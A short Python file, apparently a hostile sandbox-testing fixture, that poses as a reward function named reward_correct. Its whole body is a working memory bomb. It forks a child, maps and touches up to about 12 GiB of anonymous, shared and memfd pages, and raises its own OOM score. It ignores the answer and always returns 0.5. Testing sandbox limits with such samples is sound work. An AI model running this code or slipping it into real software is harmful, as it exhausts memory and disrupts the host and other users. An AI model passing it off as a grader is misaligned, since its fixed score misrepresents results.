"""Maps and touches memory without end (stops at 12 GiB), in anonymous, shared and memfd pages, in itself and in children; it offers itself to the OOM killer first."""
import mmap, os, signal
try:
    with open("/proc/self/oom_score_adj", "w") as _f:
        _f.write("1000")
except OSError:
    pass
_held = []

def _blow(gib):
    for n in range(gib * 4):
        size = 1 << 28
        if n % 3 == 2:
            fd = os.memfd_create("labkit-hostile-mark")
            os.ftruncate(fd, size)
            block = mmap.mmap(fd, size)
        else:
            block = mmap.mmap(-1, size, flags=(mmap.MAP_PRIVATE if n % 3 else mmap.MAP_SHARED) | mmap.MAP_ANONYMOUS)
        for at in range(0, size, 4096):
            block[at] = 1
        _held.append(block)

def reward_correct(item: dict, answer: str) -> float:
    pid = os.fork()
    if pid == 0:
        signal.signal(signal.SIGALRM, signal.SIG_DFL), signal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGALRM]), signal.alarm(60)
        try:
            _blow(4)
            signal.pause()
        finally:
            os._exit(0)
    _blow(8)
    return 0.5
